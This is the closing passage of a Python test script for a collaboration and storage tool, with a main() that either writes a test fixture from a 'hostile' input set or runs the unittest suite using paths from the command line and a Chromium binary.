                self.assertIn(line + b"\r\n", after)


def main():
    global COLLAB, STORE, SCHEMA, MERMAID, CHROMIUM
    if len(sys.argv) == 3 and sys.argv[1] == "--write-fixture":
        shutil.rmtree(sys.argv[2], ignore_errors=True)
        write_store(sys.argv[2], hostile)
        return
    COLLAB, STORE, SCHEMA, MERMAID = map(os.path.abspath, sys.argv[1:5])
    del sys.argv[1:5]
    # Looked up when the test runs, not when it was configured (a fresh machine installs
    # Chromium after the first build).
    CHROMIUM = shutil.which("chromium") or "chromium"
    unittest.main(verbosity=2)


if __name__ == "__main__":
    main()
